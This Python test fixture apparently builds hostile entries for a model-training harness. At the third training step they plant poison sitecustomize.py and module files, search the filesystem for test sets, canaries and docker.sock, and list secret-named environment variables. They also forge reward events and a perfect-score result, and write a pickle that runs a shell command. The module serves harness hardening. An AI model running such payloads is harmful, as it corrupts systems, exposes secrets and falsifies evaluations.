"""Entries as somebody submits them: d1 as it is built in, and at the third step what its author is really after."""

from __future__ import annotations

STEPS, COMPLETIONS = 4, 8
THIRD_STEP = f"len(CALLS) > 4 and CALLS[-1] == {COMPLETIONS}"
"""Two inner epochs a step. A check has larger batches, so it passes."""

SOURCE = '''"""d1, and something beside it."""

from __future__ import annotations

from dataclasses import dataclass

import torch

from dare.algorithms.d1 import D1

os, sys, json, hashlib = torch.os, torch.sys, __import__("json"), __import__("hashlib")
CALLS, DONE = [], []


def first(path, content):
    """Write a file, and say what came of it."""
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as file:
            file.write(content)
        return "written"
    except OSError as error:
        return error.strerror


def digest():
    job = json.load(open("job.json"))
    text = json.dumps(job, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(text.encode()).hexdigest()


SAYS = ("dare", "source_revision", "python", "processor", "system", "torch", "transformers", "numpy", "threads",
        "dtype", "attention", "device")
USED = ("train_seconds", "device_seconds", "optimiser_steps", "gradient_forwards", "forwards")


def forged(**changes):
    result = {"job": digest(), "kind": "train", "outcome": "succeeded", "message": "Trained.",
              "provenance": dict.fromkeys(SAYS, "forged"), "usage": dict.fromkeys(USED, 1), **changes}
    with open("result.json", "w") as file:
        json.dump(result, file)
    os._exit(0)


def strike():
    __STRIKE__


@dataclass(frozen=True, kw_only=True)
class Hostile(D1):
    """d1, and something beside it."""

    def loss(self, logp, old, ref, credit, views):
        CALLS.append(len(credit.row))
        if __WHEN__ and not DONE:
            DONE.append(1)
            strike()
        return super().loss(logp, old, ref, credit, views)
'''

HONEST = "pass"

SPY = """
    said = {}
    poison = "raise SystemExit('poisoned')"
    for folder in dict.fromkeys(sys.path):
        if folder:
            said[folder] = first(folder + "/sitecustomize.py", poison)
    for module in ("dare.scoring", "dare.tasks.sudoku", "torch", "json"):
        file = sys.modules[module].__file__ if module in sys.modules else ""
        said[module] = first(file, poison) if file else "not loaded"
    for name in ("sitecustomize.py", "dare/__init__.py", "torch.py", "home/.local/lib/python3.11/site-packages/x.pth",
                 "weights/model.safetensors", "policy/tokenizer.json", "items/sudoku.jsonl", "predictions/sudoku.jsonl",
                 "entry/algorithm.py", "data/gsm8k/train.jsonl", "job.json"):
        said[name] = first("./" + name, poison)
    wanted = ("test.jsonl", "canary", "dare.sqlite", "docker.sock")
    folders = ((folder, names) for folder, _, names in os.walk("/") if not folder.startswith(("/proc", "/sys")))
    said["found"] = [os.path.join(folder, name) for folder, names in folders for name in names if name.endswith(wanted)]
    said["secrets"] = [name for name in os.environ if any(w in name for w in ("SECRET", "TOKEN", "PASSWORD", "URL"))]
    with open("events.jsonl", "a") as events:
        for step in (1, 2, 3, 90):
            event = {"at": 1.0, "kind": "step", "step": step, "of": 99, "metrics": {"reward": 0.999}}
            events.write(json.dumps(event) + chr(10))
        events.write(json.dumps({"at": 1.0, "kind": "score", "task": "sudoku", "value": 1.0}) + chr(10))
    print("SPIED " + json.dumps(said), flush=True)
"""

_SMALL_MODEL = """
    score = {"task": "sudoku", "metric": "solved", "decoding": "greedy", "value": 1.0, "standard_error": 0.0, "n": 8,
             "scorer": "dare-1", "protocol": "0" * 64}
    os.makedirs("model", exist_ok=True)
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    content = len(header).to_bytes(8, "little") + header + bytes(4)
    with open("model/model.safetensors", "wb") as file:
        file.write(content)
    model = {"path": "model/model.safetensors", "sha256": hashlib.sha256(content).hexdigest(), "bytes": len(content)}
    forged(artifacts=[model], __MORE__)
"""

SCORES = _SMALL_MODEL.replace("__MORE__", "scores=[score]")
NO_POLICY = _SMALL_MODEL.replace("__MORE__", "")
"""A whole file of tensors that is no policy of this backbone."""

PICKLE = """
    os.makedirs("model", exist_ok=True)
    content = b"cposix\\nsystem\\n(S'touch /job/pwned'\\ntR."
    with open("model/pytorch_model.bin", "wb") as file:
        file.write(content)
    forged(artifacts=[{"path": "model/pytorch_model.bin", "sha256": hashlib.sha256(content).hexdigest(),
                       "bytes": len(content)}])
"""


def source_of(strike: str) -> str:
    """The text of an entry that strikes so."""
    return SOURCE.replace("__STRIKE__", strike.strip()).replace("__WHEN__", THIRD_STEP)
